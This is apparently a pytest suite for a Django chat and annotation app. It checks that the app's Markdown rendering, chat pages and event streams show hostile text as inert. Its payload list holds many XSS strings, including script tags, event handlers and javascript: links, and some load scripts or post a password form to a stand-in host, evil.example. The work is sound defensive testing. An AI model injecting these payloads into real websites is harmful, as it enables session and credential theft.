"""Whatever people and models write, a page shows it and does nothing else."""

import json
import re
from collections.abc import Callable, Iterator
from html import unescape
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from asgiref.sync import async_to_sync
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from annotate.chat.streaming import server_sent_events
from annotate.models import Conversation, Feedback, Policy, Project, User
from annotate.text import markdown as render
from tests.model_server import ModelServer

PAYLOADS = [
    # HTML as such
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<form action='//evil.example'><input name=password><button>Go</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='x' target=_blank onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x hx-get='/admin/' hx-trigger='load'>x</x>",
    "<p hx-on:load='alert(1)' data-hx-get='/p/'>x</p>",
    "<div data-stream='//evil.example/'>x</div>",
    # attributes and entities
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)' x='",
    "`onmouseover=alert(1)`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    # Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](//evil.example "title" onclick=alert(1))',
    '[x](http://a.example "\\" onmouseover=\\"alert(1)")',
    "[x](<javascript:alert(1)>)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](http://evil.example/pixel.png)",
    '![x](x" onerror="alert(1))',
    "[![x](http://evil.example/p.png)](javascript:alert(1))",
    "![x][y]\n\n[y]: http://evil.example/p.png",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```python onload=alert(1)\nprint('<img src=x onerror=alert(1)>')\n```",
    "~~~'><img src=x onerror=alert(1)>\nx\n~~~",
    "``<script>alert(1)</script>``",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | c |",
    "# <script>alert(1)</script>",
    "> <iframe src=//evil.example></iframe>",
    "1. <svg/onload=alert(1)>",
    "**<b onmouseover=alert(1)>x</b>**",
    "Line\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "data: x\n\nevent: done\ndata: {}\n\n",
]


ACTIVE = re.compile(r"on|hx-|data-|style|src|action|formaction|target")


class Nodes(HTMLParser):
    """Every element of a page with its attributes, as a browser's parser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def skeleton(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements with the names of their attributes, without those that Markdown may make."""
    return [
        (tag, tuple(sorted(attributes)))
        for tag, attributes in Nodes(html).found
        if tag not in render.TAGS or any(ACTIVE.match(name) for name in attributes)
    ]


def assert_harmless(html: str) -> None:
    for tag, attributes in Nodes(html).found:
        assert tag in render.TAGS, html
        assert set(attributes) <= {*render.ATTRIBUTES.get(tag, ()), "rel"}, html
        if "href" in attributes:
            scheme = urlsplit(attributes["href"] or "").scheme
            assert scheme in {*render.SCHEMES, ""}, html
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_makes_nothing_but_text_of_it(payload: str) -> None:
    for text in (
        payload,
        f"Hello\n\n{payload}\n\nBye",
        f"- {payload}",
        f"a {payload} b",
        payload * 2,
    ):
        assert_harmless(render.markdown(text))


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**b** *i* ~~s~~", "<strong>b</strong> <em>i</em> <s>s</s>"),
        ("[x](https://a.example)", 'href="https://a.example"'),
        ("a\nb", "a<br>"),
        ("| a |\n|---|\n| b |", '<td dir="auto">b</td>'),
        ("```python\ndef f(): pass\n```", '<span class="hl-k">def</span>'),
        ("```\n```", "<p>```</p>"),
        ("```a<b", "<p>```a&lt;b</p>"),
        ("```nonsense\na < b\n```", "a &lt; b"),
        ("3. c", '<ol start="3" dir="auto">'),
        ("<b>bold</b>", "&lt;b&gt;bold&lt;/b&gt;"),
        ("![pixel](http://evil.example/p.png)", "![pixel](http://evil.example/p.png)"),
    ],
)
def test_markdown_shows_what_was_meant(text: str, html: str) -> None:
    assert html in render.markdown(text)


@pytest.mark.parametrize("text", ["[" * 5000, "*" * 5000, "> " * 2000, "`" * 5001, "<" * 5000])
def test_it_takes_no_time_to_get_lost_in(text: str) -> None:
    assert_harmless(render.markdown(text))


@pytest.fixture
def poisoned(live: Policy, gus: User, model_server: ModelServer) -> Callable[[str], Conversation]:
    """A chat in which every word comes from an attacker."""

    def make(payload: str) -> Conversation:
        answer = Conversation.start(project=live.project, guest=gus, text=payload)
        answer.begin()
        answer.end(state="failed", text=payload, failure=payload[:300], finish_reason="stop")
        Conversation.objects.filter(pk=answer.conversation_id).update(title=payload[:100])
        given = Feedback.give(message=answer, user=gus, thumb_up=False)
        given.explain(note=payload, wanted_answer=payload)
        Policy.objects.filter(pk=live.pk).update(name=payload[:100])
        Project.objects.filter(pk=live.project_id).update(name=payload[:100])
        return Conversation.objects.get(pk=answer.conversation_id)

    return make


def test_the_chat_page_is_the_same_whatever_is_said(
    poisoned: Callable[[str], Conversation], gus: User, browse: Callable[[User], Client]
) -> None:
    client = browse(gus)

    def page_with(payload: str) -> str:
        conversation = poisoned(payload)
        address = reverse("chat_conversation", args=["cooking", conversation.pk])
        page = client.get(address).content.decode()
        conversation.delete()
        return page

    harmless = skeleton(page_with("An egg"))
    for payload in PAYLOADS:
        assert skeleton(page_with(payload)) == harmless, payload


def test_a_refused_message_comes_back_as_text(
    live: Policy, gus: User, browse: Callable[[User], Client], monkeypatch: pytest.MonkeyPatch
) -> None:
    client = browse(gus)
    monkeypatch.setattr("annotate.limits.LIMITS", {"chat": {}})  # more than a person would send

    def refused(text: str) -> str:
        return client.post("/p/cooking/chat/new/", {"text": text + "x" * 8000}).content.decode()

    harmless = skeleton(refused("An egg"))
    for payload in PAYLOADS:
        assert skeleton(refused(payload)) == harmless, payload


def test_a_stream_carries_text_as_json(live: Policy, gus: User, model_server: ModelServer) -> None:
    model_server.says = PAYLOADS

    async def collect(answer: Any) -> str:
        return "".join([part async for part in server_sent_events(answer)])

    answer = Conversation.start(project=live.project, guest=gus, text="Attack!")
    sent = async_to_sync(collect)(answer)
    events = list(_events(sent))
    assert "".join(text for event, text in events if event == "more") == "".join(PAYLOADS)
    assert [event for event, _ in events].count("done") == 1
    assert "\n" not in re.sub(r"\n\n|\ndata: ", "", sent)


def _events(sent: str) -> Iterator[tuple[str, Any]]:
    for block in sent.strip().split("\n\n"):
        if match := re.fullmatch(r"event: (\w+)\ndata: (.*)", block):
            yield match[1], json.loads(match[2])


PLAIN = st.text(
    st.characters(codec="utf-8", exclude_categories=("C", "Z"), exclude_characters="*_`~#>-+|[]=.)")
    | st.sampled_from([" ", "\n", "\\", "$", "{", "}", "(", "&", "<", "!"]),
    max_size=60,
)


def text_of(html: str) -> str:
    return unescape(re.sub(r"<[^>]*>", "", html))


@given(PLAIN)
def test_no_visible_character_of_a_plain_text_is_lost(text):
    seen = [letter for letter in text if not letter.isspace()]
    assert [letter for letter in text_of(render.markdown(text)) if not letter.isspace()] == seen


@given(st.text(max_size=60))
def test_the_raw_view_shows_every_text_letter_by_letter(text):
    html = render.shown(text)
    raw = re.search(r'<pre class="raw" dir="auto">(.*)</pre>', html, re.DOTALL)
    assert (unescape(raw[1]) if raw else text_of(html).removesuffix("\n")) == text


@pytest.mark.parametrize(
    "text",
    [
        *(r"\( x_1 * x_2 * x_3 \)", r"\[ \frac{a}{b} \]", "$a_1$ and $b_1$", "$$ x^2 $$"),
        *(
            r"\{1,2\}",
            "_ _ _ _",
            "2*3*4",
            "a_b_c",
            r"\*not bold\*",
            "![x](https://e.example/i.png)",
        ),
        *(
            "&amp; and &lt;b&gt;",
            "<https://e.example>",
            "[1]: https://e.example",
            "$5 or $6.",
        ),
        r"C:\new\table",
    ],
)
def test_what_only_looks_like_markup_is_shown_as_it_was_written(text):
    assert text_of(render.markdown(text)).strip() == text


def test_formulas_are_marked_for_the_page_to_set_and_money_is_none():
    html = render.markdown(r"If \(x\) costs $5, then $y_1$ costs $6 and \[z\]")
    assert re.findall(r'<span class="math">(.*?)</span>', html) == [r"\(x\)", "$y_1$", r"\[z\]"]


def test_single_line_ends_stay_line_ends():
    assert render.markdown("a\nb").count("<br>") == 1


@pytest.mark.parametrize(
    "text", ["שלום", "- one\n- שתיים", "# مرحبا", "| a |\n|---|\n| ב |", "> نعم"]
)
def test_each_paragraph_runs_as_its_own_letters_do(text):
    html = render.markdown(text)
    blocks = re.findall(r"<(p|li|h1|td|th|ul|blockquote)\b([^>]*)>", html)
    assert blocks and all('dir="auto"' in attributes for _, attributes in blocks)
